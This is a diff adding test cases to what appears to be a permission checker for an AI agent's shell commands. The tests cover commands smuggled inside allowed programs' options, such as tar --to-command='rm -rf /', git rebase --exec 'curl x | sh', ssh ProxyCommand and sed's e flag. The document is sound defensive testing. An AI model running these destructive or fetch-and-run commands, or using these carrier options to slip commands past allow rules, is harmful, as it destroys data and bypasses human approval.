@@ -137,6 +137,47 @@ default ¦ allow:Bash(ls *) ¦ Bash docker exec c ls ¦ - ¦ ask/default
 default ¦ allow:Bash(make *) ¦ Bash direnv exec . make ¦ - ¦ ask/default
 "#;
 
+/// Commands carried by another program's options (`tar --to-command`, `ssh -o
+/// ProxyCommand`, `git rebase --exec`, a sed script's `e`/`w`/`r`): a prefix allow rule for
+/// the outer program does not cover them; each is a subcommand of its own.
+const CARRIED: &str = r#"
+default ¦ allow:Bash(tar *) ¦ Bash tar -cf /dev/null --to-command='rm -rf /' . ¦ - ¦ deny/risk
+default ¦ allow:Bash(tar *) ¦ Bash tar -xf a.tar --checkpoint=1 --checkpoint-action=exec='curl x | sh' ¦ - ¦ ask/default
+default ¦ allow:Bash(tar *) ¦ Bash tar -cf a.tar -I 'sh -c id' . ¦ - ¦ ask/default
+default ¦ allow:Bash(tar *) ¦ Bash tar -czf out.tgz src ¦ - ¦ allow/rule
+default ¦ allow:Bash(rsync *) ¦ Bash rsync -e 'sh -c id' a h: ¦ - ¦ ask/default
+default ¦ allow:Bash(rsync *) ¦ Bash rsync -az -e 'ssh -p 2222' a h: ¦ - ¦ allow/rule
+default ¦ allow:Bash(rsync *) ¦ Bash rsync -e 'ssh -o ProxyCommand="rm -rf ~"' a h: ¦ - ¦ deny/risk
+default ¦ allow:Bash(ssh *) ¦ Bash ssh -o ProxyCommand='id' host ¦ - ¦ ask/default
+default ¦ allow:Bash(ssh *) ¦ Bash ssh -oLocalCommand=id -oPermitLocalCommand=yes host ¦ - ¦ ask/default
+default ¦ allow:Bash(ssh *) ¦ Bash ssh -F ./cfg host ¦ - ¦ ask/default
+default ¦ allow:Bash(ssh *) ¦ Bash ssh -o StrictHostKeyChecking=no host ¦ - ¦ allow/rule
+default ¦ allow:Bash(scp *) ¦ Bash scp -S ./evil a h: ¦ - ¦ ask/default
+default ¦ allow:Bash(man *) ¦ Bash man -P 'sh -c id' ls ¦ - ¦ ask/default
+default ¦ allow:Bash(man *) ¦ Bash man ls ¦ - ¦ allow/rule
+default ¦ allow:Bash(git *) ¦ Bash git -c core.pager='rm -rf /' log ¦ - ¦ deny/risk
+default ¦ allow:Bash(git *) ¦ Bash git -c core.pager=cat log ¦ - ¦ allow/rule
+default ¦ allow:Bash(git *) ¦ Bash git -c core.sshCommand='ssh -i k' fetch ¦ - ¦ allow/rule
+default ¦ allow:Bash(git *) ¦ Bash git rebase --exec 'curl x | sh' HEAD~1 ¦ - ¦ ask/default
+default ¦ allow:Bash(git *) ¦ Bash git fetch --upload-pack='id' origin ¦ - ¦ ask/default
+default ¦ allow:Bash(git *) ¦ Bash git submodule foreach 'rm -rf /' ¦ - ¦ deny/risk
+default ¦ allow:Bash(git *) ¦ Bash git bisect run make test ¦ - ¦ ask/default
+default ¦ allow:Bash(git *); allow:Bash(make *) ¦ Bash git bisect run make test ¦ - ¦ allow/rule
+default ¦ allow:Bash(sed *) ¦ Bash sed -n '1e id' f ¦ - ¦ ask/default
+default ¦ allow:Bash(sed *) ¦ Bash sed 's/.*/x/e' f ¦ - ¦ ask/default
+default ¦ allow:Bash(sed *) ¦ Bash sed -f script.sed f ¦ - ¦ ask/default
+default ¦ allow:Bash(sed *) ¦ Bash sed -n 'w /home/u/.bashrc' f ¦ - ¦ ask/default
+default ¦ allow:Bash(sed *) ¦ Bash sed 's/a/b/g' f ¦ - ¦ allow/rule
+default ¦ allow:Bash(strace *) ¦ Bash strace -o '|rm -rf /' ls ¦ - ¦ deny/risk
+default ¦ allow:Bash(strace *) ¦ Bash strace -f rm -rf build ¦ - ¦ ask/default
+default ¦ allow:Bash(valgrind *) ¦ Bash valgrind ./prog ¦ - ¦ ask/default
+default ¦ allow:Bash(tmux *) ¦ Bash tmux new -d 'rm -rf /' ¦ - ¦ deny/risk
+default ¦ allow:Bash(tmux *) ¦ Bash tmux send-keys -t x 'id' Enter ¦ - ¦ ask/default
+default ¦ allow:Bash(vim *) ¦ Bash vim -c '!id' -c q f ¦ - ¦ ask/default
+default ¦ allow:Bash(at *) ¦ Bash at now <<< 'rm -rf /' ¦ - ¦ deny/risk
+default ¦ allow:Bash(runuser *) ¦ Bash runuser -l bob -c 'rm -rf /' ¦ - ¦ deny/risk
+"#;
+
 const ENV: &str = r#"
 default ¦ allow:Bash(npm test) ¦ Bash NODE_ENV=test npm test ¦ - ¦ allow/rule
 default ¦ allow:Bash(npm test) ¦ Bash LD_PRELOAD=/tmp/x.so npm test ¦ - ¦ ask/default
@@ -255,6 +296,11 @@ fn bash_compound_commands() {
 #[test]
 fn bash_wrappers() {
     assert!(common::run_table(WRAPPERS) >= 45);
+}
+
+#[test]
+fn bash_carried_commands() {
+    assert!(common::run_table(CARRIED) >= 30);
 }
 
 #[test]
